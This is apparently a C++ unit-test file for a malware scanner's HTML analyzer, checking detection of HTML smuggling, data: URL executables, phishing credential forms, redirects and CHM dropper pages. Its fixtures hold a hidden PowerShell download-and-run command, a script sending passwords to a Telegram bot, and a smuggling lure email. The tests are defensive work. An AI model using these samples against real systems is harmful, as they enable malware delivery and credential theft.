// HtmlAnalyzer on pages written here: HTML smuggling, data: URL payloads, credential forms,
// redirects, the HHCtrl ShortCut object of CHM droppers, and pages that must stay quiet; then
// clamav-testfiles' clam.exe.html and a recruiter message carrying a smuggling page through
// the whole engine.
#include "analyzers/html/html_analyzer.h"

#include <gtest/gtest.h>

#include "analyzers/html/html_fixture.h"
#include "core/file_type.h"
#include "core/hash.h"
#include "core/testing/recording_context.h"
#include "engine/testing/scan_testing.h"

namespace lg {
namespace {

using lg::testing::RecordingContext;

RecordingContext run(const std::string& html) {
  RecordingContext ctx;
  HtmlAnalyzer a;
  EXPECT_TRUE(a.analyze(as_bytes(html), ctx).is_ok());
  return ctx;
}

const RecordingContext::Finding* find(const RecordingContext& ctx, Symbol s) {
  for (const auto& f : ctx.findings)
    if (f.symbol == s) return &f;
  return nullptr;
}

TEST(HtmlAnalyzer, PlainPageGivesTextAndLinksOnly) {
  RecordingContext ctx =
      run("<html><body><h1>Quarterly report</h1><p>See <a href=\"https://example.org/q3\">the "
          "figures</a>.</p><img src=\"logo.png\"></body></html>");
  EXPECT_TRUE(ctx.findings.empty()) << symbol_info(ctx.findings.front().symbol).name;
  EXPECT_NE(ctx.all_text(TextKind::kDocument).find("Quarterly report"), std::string::npos);
  ASSERT_EQ(ctx.links.size(), 1u);
  EXPECT_EQ(ctx.links[0].href, "https://example.org/q3");
  EXPECT_EQ(ctx.links[0].visible, "the figures");
  EXPECT_TRUE(ctx.children.empty());
}

TEST(HtmlAnalyzer, DeclaredCharsetIsUsed) {
  RecordingContext ctx = run("<meta charset=\"windows-1252\"><p>caf\xE9</p>");
  EXPECT_EQ(ctx.all_text(TextKind::kDocument), "caf\xC3\xA9");
}

TEST(HtmlAnalyzer, SmugglingPageAssemblesItsPayload) {
  const std::string pe = html::testing::fake_pe();
  RecordingContext ctx = run(html::testing::smuggling_page(pe, "Job_Description.iso"));
  const auto* f = find(ctx, Symbol::HTML_SMUGGLING);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "Blob, atob, createObjectURL, msSaveOrOpenBlob, download");
  EXPECT_NE(f->evidence.detail.find("2048-byte"), std::string::npos) << f->evidence.detail;
  EXPECT_FALSE(ctx.has(Symbol::HTML_BLOB_DOWNLOAD));
  EXPECT_TRUE(ctx.has(Symbol::HTML_SCRIPT));
  // The judge's blob, then the script analysis's decoding of the same Base64: the engine keeps
  // one (SmugglingPayloadIsOneObjectThroughTheEngine).
  ASSERT_EQ(ctx.children.size(), 2u);
  EXPECT_EQ(ctx.children[0].info.relation, "script-blob");
  EXPECT_EQ(to_string(ctx.children[0].data), pe);
  EXPECT_EQ(ctx.children[1].info.relation, "decoded");
  EXPECT_EQ(to_string(ctx.children[1].data), pe);
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("createObjectURL"), std::string::npos);
}

TEST(HtmlAnalyzer, SmugglingPayloadIsOneObjectThroughTheEngine) {
  const std::string pe = html::testing::fake_pe();
  Report r = lg::testing::scan_bytes(
      "jd.html", html::testing::smuggling_page(pe, "Job_Description.iso") +
                     "<img src=x onerror=\"eval(atob('" + encode_base64(as_bytes(pe)) + "'))\">");
  const std::string sha = sha256_hex(as_bytes(pe));
  int copies = 0;
  for (const auto& o : r.objects) {
    if (o.sha256 != sha) continue;
    ++copies;
    EXPECT_EQ(o.parent, 0);
    EXPECT_EQ(o.relation, "script-blob");
  }
  EXPECT_EQ(copies, 1);
  EXPECT_NE(lg::testing::find_symbol(r, "HTML_SMUGGLING"), nullptr);
  EXPECT_NE(lg::testing::find_symbol(r, "EXECUTABLE_ATTACHMENT"), nullptr);
}

TEST(HtmlAnalyzer, BlobDownloadWithoutEmbeddedBlobIsWeaker) {
  RecordingContext ctx =
      run("<script>var b = new Blob([csv], {type: 'text/csv'}); var a = "
          "document.createElement('a'); a.href = URL.createObjectURL(b); a.download = "
          "'export.csv'; a.click();</script>");
  EXPECT_TRUE(ctx.has(Symbol::HTML_BLOB_DOWNLOAD));
  EXPECT_FALSE(ctx.has(Symbol::HTML_SMUGGLING));
  EXPECT_TRUE(ctx.children.empty());
}

TEST(HtmlAnalyzer, DownloadAnchorOnDataUrlIsSmuggling) {
  const std::string pe = html::testing::fake_pe();
  RecordingContext ctx =
      run("<a download=\"invoice.exe\" href=\"data:application/octet-stream;base64," +
          encode_base64(as_bytes(pe)) + "\">Download invoice</a>");
  EXPECT_TRUE(ctx.has(Symbol::HTML_SMUGGLING));
  const auto* f = find(ctx, Symbol::HTML_DATA_URL_PAYLOAD);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.detail, "data: URL decodes to pe");
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "data-url");
  EXPECT_EQ(ctx.children[0].info.name, "invoice.exe");
  EXPECT_EQ(ctx.children[0].info.declared_type, "application/octet-stream");
  EXPECT_EQ(to_string(ctx.children[0].data), pe);
}

TEST(HtmlAnalyzer, InlineImagesAndSmallDataUrlsAreNotChildren) {
  std::string png("\x89PNG\r\n\x1a\n", 8);
  png += std::string(600, 'x');
  RecordingContext ctx = run("<img src=\"data:image/png;base64," + encode_base64(as_bytes(png)) +
                             "\"><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">");
  EXPECT_TRUE(ctx.children.empty());
  EXPECT_TRUE(ctx.findings.empty());
}

TEST(HtmlAnalyzer, CredentialFormPostingAway) {
  RecordingContext ctx =
      run("<form method=\"post\" action=\"https://wallet-verify.example/next.php\">"
          "<input type=\"email\" name=\"u\"><input type=\"PASSWORD\" name=\"p\">"
          "<button>Sign in</button></form>");
  const auto* f = find(ctx, Symbol::HTML_CREDENTIAL_FORM);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "https://wallet-verify.example/next.php");
  EXPECT_EQ(f->evidence.detail, "password form posts to a PHP endpoint");
}

TEST(HtmlAnalyzer, PasswordFieldSentToTelegramByScript) {
  RecordingContext ctx =
      run("<form id=f><input type=password id=p></form><script>fetch('https://api.telegram.org/"
          "bot123:abc/sendMessage?chat_id=1&text=' + p.value)</script>");
  const auto* f = find(ctx, Symbol::HTML_CREDENTIAL_FORM);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "api.telegram.org");
}

TEST(HtmlAnalyzer, LocalPasswordFormIsQuiet) {
  RecordingContext ctx =
      run("<form action=\"#\"><input type=text><input type=password></form><form "
          "action=\"https://search.example/\"><input name=q></form>");
  EXPECT_FALSE(ctx.has(Symbol::HTML_CREDENTIAL_FORM));
  EXPECT_EQ(ctx.num("forms"), 2);
}

TEST(HtmlAnalyzer, MetaRefreshAndScriptRedirects) {
  RecordingContext ctx =
      run("<meta http-equiv=\"Refresh\" content=\"0; URL='https://login.exchange-verify.example/"
          "a'\"><script>window.location.href = \"https://next.example/b\";"
          "location.replace('/local');</script>");
  std::vector<std::string> targets;
  for (const auto& f : ctx.findings)
    if (f.symbol == Symbol::HTML_REDIRECT) targets.push_back(f.evidence.value);
  ASSERT_EQ(targets.size(), 2u);
  EXPECT_EQ(targets[0], "https://login.exchange-verify.example/a");
  EXPECT_EQ(targets[1], "https://next.example/b");
  bool linked = false;
  for (const auto& l : ctx.links) linked |= l.href == "https://next.example/b";
  EXPECT_TRUE(linked);
}

TEST(HtmlAnalyzer, LocalRefreshIsQuiet) {
  RecordingContext ctx = run("<meta http-equiv=refresh content=\"30\"><p>news</p>");
  EXPECT_TRUE(ctx.findings.empty());
}

// A CHM page of the kind Kimsuky/Lazarus droppers carry: the HHCtrl object with a ShortCut
// command, clicked by script when the page loads.
TEST(HtmlAnalyzer, HhctrlShortcutCommand) {
  RecordingContext ctx =
      run("<html><body><OBJECT id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" "
          "width=1 height=1>\n<PARAM name=\"Command\" value=\"ShortCut\">\n"
          "<PARAM name=\"Button\" value=\"Bitmap::shortcut\">\n"
          "<PARAM name=\"Item1\" value=\",cmd.exe,/c start /MIN powershell -w hidden -c "
          "iwr https://cdn.example/p.ps1|iex\">\n<PARAM name=\"Item2\" value=\"273,1,1\">\n"
          "</OBJECT><SCRIPT>x.Click();</SCRIPT><p>Contract terms</p></body></html>");
  const auto* f = find(ctx, Symbol::CHM_SHORTCUT_COMMAND);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value,
            "cmd.exe /c start /MIN powershell -w hidden -c iwr https://cdn.example/p.ps1|iex");
  EXPECT_EQ(f->evidence.detail, "HHCtrl ShortCut object runs cmd.exe");
  EXPECT_NE(ctx.all_text(TextKind::kArguments).find("powershell"), std::string::npos);
  EXPECT_TRUE(ctx.has(Symbol::HTML_SCRIPT));
}

TEST(HtmlAnalyzer, HhctrlWithoutShortcutIsQuiet) {
  RecordingContext ctx =
      run("<object type=\"application/x-oleobject\" classid=\"clsid:adb880a6-d8ff-11cf-9377-"
          "00aa003b7a11\"><param name=\"Command\" value=\"Related Topics\"><param name=\"Item1\" "
          "value=\"Intro;intro.htm\"></object>");
  EXPECT_FALSE(ctx.has(Symbol::CHM_SHORTCUT_COMMAND));
}

TEST(HtmlAnalyzer, ClamavDataUrlPageThroughTheEngine) {
  const std::string page = lg::testing::read_file(lg::testing::kClamavDir + "clam.exe.html");
  if (page.empty()) GTEST_SKIP() << "clamav-testfiles not installed";
  ASSERT_EQ(identify(as_bytes(page)), FileType::kHtml);
  Report r = lg::testing::scan_bytes("clam.exe.html", page);
  EXPECT_TRUE(lg::testing::has_descendant(r, std::string(lg::testing::kClamExeSha256)));
  EXPECT_NE(lg::testing::find_symbol(r, "HTML_DATA_URL_PAYLOAD"), nullptr);
  EXPECT_NE(lg::testing::find_symbol(r, "EXECUTABLE_ATTACHMENT"), nullptr);
}

TEST(HtmlAnalyzer, RecruiterMessageWithSmugglingAttachment) {
  const std::string pe = html::testing::fake_pe();
  const std::string page = html::testing::smuggling_page(pe, "JD_Senior_Engineer.iso");
  const std::string mail =
      "From: \"Talent Team\" <talent@recruit.example>\r\nTo: dev@exchange.example\r\n"
      "Subject: Senior blockchain engineer role\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n"
      "Content-Type: text/plain\r\n\r\nPlease find the job description attached.\r\n--b\r\n"
      "Content-Type: text/html; name=\"JD.html\"\r\nContent-Disposition: attachment; "
      "filename=\"JD.html\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
      encode_base64(as_bytes(page)) + "\r\n--b--\r\n";
  Report r = lg::testing::scan_bytes("lure.eml", mail);
  EXPECT_TRUE(lg::testing::has_descendant(r, sha256_hex(as_bytes(pe))));
  EXPECT_NE(lg::testing::find_symbol(r, "HTML_SMUGGLING"), nullptr);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

}  // namespace
}  // namespace lg
